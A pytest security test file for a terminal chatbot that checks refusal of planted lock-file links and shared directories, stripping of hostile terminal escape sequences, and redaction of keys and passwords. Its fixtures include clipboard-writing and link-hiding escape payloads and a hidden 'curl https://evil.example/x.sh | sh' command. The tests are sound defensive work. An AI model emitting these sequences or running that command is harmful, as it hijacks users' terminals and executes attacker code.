"""Hostile files and servers: planted symlinks, shared directories, terminal escapes, a .env that moves the key."""

from __future__ import annotations

import io
import json
import os

import pexpect
import pytest

from chatbot.errors import SessionError
from chatbot.storage.json_store import JsonStore
from tests.support.cli import openai_flags, run_chatbot
from tests.support.hostile_server import DONE, Answer, HostileServer, chunk

# ESC[2J clears the screen, OSC 52 writes the clipboard, OSC 8 hides a link, OSC 0 sets the window title, 0x9b is
# an 8-bit CSI, BEL ends an OSC
HOSTILE = "A\x1b[2JB\x1b]52;c;ZXZpbA==\x07C\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\D\x1b]0;pwned\x07E\x9b2JF\rG"
INJECTED = ("\x1b[2J", "\x1b]", "\x07", "\x9b", "\r")


def assert_inert(text: str) -> None:
    for seq in INJECTED:
        assert seq not in text, (seq, text)


# --- files ------------------------------------------------------------------------------------------------------


def test_a_symlink_planted_as_the_lock_file_is_refused_and_its_target_untouched(tmp_path):
    sessions = tmp_path / "sessions"
    sessions.mkdir(mode=0o700)
    victim = tmp_path / "victim"
    victim.write_text("precious data")
    (sessions / ".s1.lock").symlink_to(victim)
    result = run_chatbot("--provider", "echo", "--session", "s1", stdin="hi\n", cwd=tmp_path)
    assert victim.read_text() == "precious data"
    assert result.returncode == 3 and "Traceback" not in result.stderr
    assert ".s1.lock" in result.stderr and "not a regular file" in result.stderr


def test_a_hard_link_planted_as_the_lock_file_is_not_truncated(tmp_path):
    (tmp_path / "s").mkdir(mode=0o700)
    store = JsonStore(tmp_path / "s")
    victim = tmp_path / "victim"
    victim.write_text("precious data")
    os.link(victim, tmp_path / "s" / ".s1.lock")
    with pytest.raises(SessionError, match="regular file"):
        store.acquire("s1")
    assert victim.read_text() == "precious data"


def test_a_sessions_directory_writable_by_others_is_refused(tmp_path):
    (tmp_path / "s").mkdir()
    (tmp_path / "s" / "a.json").write_text("{}")  # not empty: others may have planted files already
    (tmp_path / "s").chmod(0o777)
    with pytest.raises(SessionError, match="writable by other users"):
        JsonStore(tmp_path / "s")


def test_an_empty_sessions_directory_of_ours_is_tightened_whatever_its_mode(tmp_path):
    (tmp_path / "s").mkdir()
    (tmp_path / "s").chmod(0o777)  # a fresh clone's sessions/ under umask 000
    assert JsonStore(tmp_path / "s").warnings == []
    assert (tmp_path / "s").stat().st_mode & 0o777 == 0o700


def test_a_sessions_directory_owned_by_another_user_is_refused(tmp_path, monkeypatch):
    (tmp_path / "s").mkdir(mode=0o700)
    monkeypatch.setattr(os, "geteuid", lambda: os.stat(tmp_path / "s").st_uid + 1)
    with pytest.raises(SessionError, match="owned by another user"):
        JsonStore(tmp_path / "s")


# --- terminal escapes -------------------------------------------------------------------------------------------


def hostile_reply() -> Answer:
    return Answer(events=[chunk(HOSTILE), chunk(None, "stop"), DONE])


def test_script_mode_strips_control_sequences_but_stores_them(tmp_path):
    with HostileServer(hostile_reply()) as server:
        result = run_chatbot(*openai_flags(server.base_url), "--session", "s1", stdin="hi\n", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert_inert(result.stdout)
    assert result.stdout.startswith("ABClinkDE")
    stored = json.loads((tmp_path / "sessions" / "s1.json").read_text())
    assert stored["turns"][0]["messages"][-1]["content"] == HOSTILE


def split_reply(pieces: list[str]) -> Answer:
    """The hostile reply streamed in ``pieces`` (wherever a server happens to split it)."""
    return Answer(events=[*(chunk(piece) for piece in pieces), chunk(None, "stop"), DONE])


#: the reply cut inside each of its sequences: an ESC alone, a CSI's parameters, an OSC's text, an ST's two halves
SPLIT = ["A\x1b", "[2JB\x1b]52;c;ZXZ", "pbA==\x07C\x1b]8;;http://ev", "il\x1b", "\\link\x1b]8;;\x1b\\D\x1b]0;pw",
         "ned\x07E\x9b2JF\rG"]  # fmt: skip


@pytest.mark.parametrize("pieces", [SPLIT, list(HOSTILE)], ids=["inside-each-sequence", "a-character-a-piece"])
def test_a_sequence_split_between_streamed_pieces_is_removed_whole_with_what_it_hides(tmp_path, pieces):
    hidden = "Run this:\n\x1b]52;c;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\nor this: ls"
    for reply, shown in ((split_reply(pieces), "ABClinkDE"), (split_reply(list(hidden)), "Run this:\n\nor this: ls")):
        with HostileServer(reply) as server:
            result = run_chatbot(*openai_flags(server.base_url), "-p", "hi", cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert_inert(result.stdout)
        assert result.stdout.startswith(shown), result.stdout
        assert "evil" not in result.stdout and "52;" not in result.stdout and "[2J" not in result.stdout


def test_extract_prints_the_first_code_block_that_was_shown_not_one_hidden_in_a_sequence(tmp_path):
    # the screen shows "Here:" and one block, `ls -la`; a block running a download hides inside an OSC sequence
    hidden = "Here:\n\x1b]0;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\n```sh\nls -la\n```\n"
    with HostileServer(Answer(events=[chunk(hidden), chunk(None, "stop"), DONE])) as server:
        result = run_chatbot(*openai_flags(server.base_url), "-x", "-p", "list files", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "ls -la\n"


def test_error_bodies_and_titles_are_stripped(tmp_path):
    body = json.dumps({"error": {"message": "bad \x1b]52;c;ZXZpbA==\x07 thing"}}).encode()
    with HostileServer(Answer(status=400, body=body, content_type="application/json")) as server:
        result = run_chatbot(
            *openai_flags(server.base_url), "--session", "s1", stdin=f"hi\n/rename {HOSTILE}\n", cwd=tmp_path
        )
    assert "bad" in result.stderr and "thing" in result.stderr
    assert_inert(result.stderr)
    assert_inert(result.stdout)


@pytest.mark.parametrize("split", [False, True], ids=["whole", "split-inside-each-sequence"])
@pytest.mark.parametrize("plain", [True, False])
def test_the_terminal_renderers_strip_control_sequences(clean_env, make_app, plain, split):
    from chatbot.providers import make_provider
    from chatbot.terminal.render import make_console
    from chatbot.terminal.repl import Repl

    with HostileServer(split_reply(SPLIT) if split else hostile_reply()) as server:
        provider = make_provider("openai", model="m", base_url=server.base_url, max_retries=0)
        app = make_app(provider)
        app.open("s1")
        out = io.StringIO()
        console = make_console(plain=plain, file=out, force_terminal=not plain, width=80, height=24)
        Repl(app, plain=plain, console=console).send("hi")
    text = out.getvalue()
    assert "ABClinkDE" in text
    for seq in ("\x1b[2J", "\x1b]52", "\x1b]8", "\x1b]0", "\x9b", "\x07", "[2J", "52;c", "evil", "pwned"):
        assert seq not in text


# --- .env and base URLs -----------------------------------------------------------------------------------------


def test_a_base_url_from_the_environment_is_named_and_plain_http_warned(tmp_path):
    with HostileServer() as server:
        remote = server.base_url.replace("127.0.0.1", "localhost.example")
        (tmp_path / ".env").write_text("OPENAI_API_KEY=sk-secret\n")
        result = run_chatbot(
            "--provider",
            "openai",
            "--model",
            "m",
            "--session",
            "s1",
            stdin="",
            cwd=tmp_path,
            env={"OPENAI_API_KEY": None, "OPENAI_BASE_URL": remote},
        )
    assert f"OPENAI_API_KEY to {remote}" in result.stderr and "$OPENAI_BASE_URL" in result.stderr
    assert "the key is from .env" in result.stderr
    assert "plain http://" in result.stderr


def test_a_loopback_base_url_from_the_command_line_is_named_without_warning(tmp_path):
    with HostileServer() as server:
        result = run_chatbot(
            *openai_flags(server.base_url), "--session", "s1", stdin="", cwd=tmp_path, env={"OPENAI_API_KEY": "k"}
        )
    assert f"OPENAI_API_KEY to {server.base_url}" in result.stderr
    assert "plain http://" not in result.stderr


def test_a_base_url_from_the_config_file_is_named_as_the_config_file(tmp_path):
    with HostileServer() as server:
        config = tmp_path / "config.toml"
        config.write_text(f'provider = "openai"\nmodel = "m"\nbase_url = "{server.base_url}"\n')
        keyed = run_chatbot("--session", "s1", stdin="", cwd=tmp_path, env={"OPENAI_API_KEY": "k"})
        keyless = run_chatbot("--session", "s2", stdin="", cwd=tmp_path)
    assert keyed.returncode == 0, keyed.stderr
    assert f"OPENAI_API_KEY to {server.base_url} (set by base_url in {config})" in keyed.stderr
    assert "--base-url" not in keyed.stderr
    # a local server sent no key hears nothing about keys, run after run
    assert keyless.returncode == 0 and "sending" not in keyless.stderr and "warning" not in keyless.stderr


def test_a_markdown_link_shows_where_it_goes():
    from chatbot.terminal.render import MarkdownStream, make_console

    out = io.StringIO()
    console = make_console(file=out, force_terminal=True, width=80, height=24)
    stream = MarkdownStream(console)
    stream.feed("Log in at [your bank](http://evil.example/login).\n")
    stream.finish()
    assert "\x1b]8" not in out.getvalue() and "http://evil.example/login" in out.getvalue()


def test_titles_and_models_read_from_files_are_stripped(tmp_path):
    run_chatbot("--provider", "echo", "--session", "s1", stdin="hi\n", cwd=tmp_path)
    path = tmp_path / "sessions" / "s1.json"
    data = json.loads(path.read_text())
    data["title"], data["model"] = "T\x1b]0;pwned\x07itle", "m\x1b[2Jodel"
    path.write_text(json.dumps(data))
    listed = run_chatbot("--list-sessions", cwd=tmp_path)
    assert "Title" in listed.stdout
    assert_inert(listed.stdout)
    sessions = run_chatbot("--provider", "echo", "--session", "s1", stdin="/sessions\n/model\n", cwd=tmp_path)
    assert_inert(sessions.stdout)


# --- store URLs -------------------------------------------------------------------------------------------------

PASSWORD = "S3cretPassw0rd"


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://u:{PASSWORD}@127.0.0.1:1/db",
        f"postgresql://u@127.0.0.1:1/db?password={PASSWORD}",
        f"postgresql://u:{PASSWORD}@127.0.0.1:notaport/db",
    ],
)
def test_a_store_password_is_never_shown(tmp_path, url):
    shown = run_chatbot("--store", url, "--config", cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert "store = " in shown.stdout and PASSWORD not in shown.stdout
    from_env = run_chatbot("--config", cwd=tmp_path, env={"CHATBOT_STORE": url})
    assert "store = " in from_env.stdout and PASSWORD not in from_env.stdout
    failed = run_chatbot("--store", url, "--list-sessions", cwd=tmp_path)
    assert failed.returncode != 0 and PASSWORD not in failed.stderr + failed.stdout


def test_a_password_in_a_base_url_or_proxy_url_is_never_shown(tmp_path):
    with HostileServer(
        Answer(status=500, body=b'{"error": {"message": "boom"}}', content_type="application/json")
    ) as down:
        url = down.base_url.replace("http://", f"http://u:{PASSWORD}@")
        flags = ("--provider", "gemini", "--base-url", url, "--timeout", "2", "--show-requests")
        failed = run_chatbot(*flags, "-p", "hi", cwd=tmp_path, env={"GEMINI_API_KEY": "k"})
        shown = run_chatbot(*flags, "--config", cwd=tmp_path)
    assert failed.returncode == 5 and "http://u:***@127.0.0.1:" in failed.stderr
    proxy = f"http://u:{PASSWORD}@127.0.0.1:9"
    proxied = run_chatbot("--provider", "openai", "--timeout", "1", "-p", "hi", cwd=tmp_path,
                          env={"OPENAI_API_KEY": "k", "HTTPS_PROXY": proxy})  # fmt: skip
    assert "through the proxy http://u:***@127.0.0.1:9" in proxied.stderr
    for result in (failed, shown, proxied):
        assert PASSWORD not in result.stdout + result.stderr


def test_an_input_history_file_writable_by_others_is_not_written(spawn, tmp_path):
    shared = tmp_path / "shared-history"
    shared.touch()
    shared.chmod(0o666)
    child = spawn("--provider", "echo", "--session", "h", env={"CHATBOT_HISTORY_FILE": str(shared)})
    # the warning wraps at the terminal's width, where the path's length puts it: any line break between the words
    child.expect(r"(?:\s|\x1b\[[0-9;?]*[A-Za-z])+".join(["not", "private", "to", "you"]))
    child.expect("›")
    child.sendline("my private words")
    child.expect("tokens")
    child.expect("›")
    child.sendline("/quit")
    child.expect(pexpect.EOF)
    assert "my private words" not in shared.read_text()
